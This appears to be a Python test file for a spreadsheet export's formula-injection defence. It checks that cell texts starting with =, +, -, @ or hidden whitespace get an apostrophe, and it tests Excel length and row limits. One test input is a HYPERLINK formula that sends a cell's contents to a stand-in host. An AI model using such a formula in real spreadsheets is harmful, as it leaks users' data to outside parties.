"""Which texts a spreadsheet would run, and what Excel holds."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from warehouse.errors import UsageError
from warehouse.report.export.spreadsheet import CELL_UNITS, FIRST, INNER, SHEET_ROWS, fit, harmless, refuse_row, units


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Ашу")', '\'=HYPERLINK("http://x.example/?"&A1,"Ашу")'),
        ("+7% өсім: облыс қорытындысы", "'+7% өсім: облыс қорытындысы"),
        ("-20 градусқа дейін суық болады", "'-20 градусқа дейін суық болады"),
        ("@SUM(1)", "'@SUM(1)"),
        ("＝1+1", "'＝1+1"),
        ("\t=1+1", "'\t'=1+1"),
        ("\ttitle", "'\ttitle"),
        ("\rtitle", "'\rtitle"),
        ("\ntitle", "'\ntitle"),
        (" =1+1", "' =1+1"),
        ("\N{NO-BREAK SPACE}=1+1", "'\N{NO-BREAK SPACE}=1+1"),
        ("\N{ZERO WIDTH SPACE}=1+1", "'\N{ZERO WIDTH SPACE}=1+1"),
        ('"=1+1', "'\"=1+1"),
        # Where `;` separates cells a text is cut there, and at line breaks.
        ("a;=1+1", "a;'=1+1"),
        ('a; "=1+1"', 'a;\' "=1+1"'),
        ("a\n- b\n- c", "a\n'- b\n'- c"),
        ("a\r\n=1", "a\r'\n'=1"),
        # These stay as they are.
        ("Құрылыс – 2025", "Құрылыс – 2025"),
        ("2+2=4, e-mail a@b.kz", "2+2=4, e-mail a@b.kz"),
        ("'=1+1", "'=1+1"),
        ("", ""),
    ],
)
def test_a_text_that_would_run_gets_an_apostrophe(text: str, safe: str) -> None:
    assert harmless(text) == safe


@given(st.text(alphabet=st.sampled_from(list("=+-@＝;,\t\r\n \"'aШ\u00a0\u200b\x00"))))
def test_nothing_is_left_that_would_run_and_nothing_else_is_changed(text: str) -> None:
    safe = harmless(text)
    assert not FIRST.match(safe)
    assert not INNER.search(safe)
    kept = iter(safe)
    assert all(any(sign == other for other in kept) for sign in text)
    assert set(safe) - set(text) <= {"'"}


def test_excel_counts_utf_16_and_a_text_that_is_cut_says_so() -> None:
    assert units("Ш" * 9) == 9
    assert units("😀" * 9) == 18
    for sign in "Ш😀":
        text = fit(sign * (CELL_UNITS + 1))
        beginning, _, rest = text.partition("… (")
        assert units(text) <= CELL_UNITS
        assert len(beginning) + int(rest.split()[0].replace(",", "")) == CELL_UNITS + 1
        assert set(beginning) == {sign}


def test_a_row_beyond_the_sheet_is_refused() -> None:
    refuse_row(SHEET_ROWS - 1, "mart_release")
    with pytest.raises(UsageError, match=r"mart_release has more than 1,048,575 rows.*--format csv"):
        refuse_row(SHEET_ROWS, "mart_release")
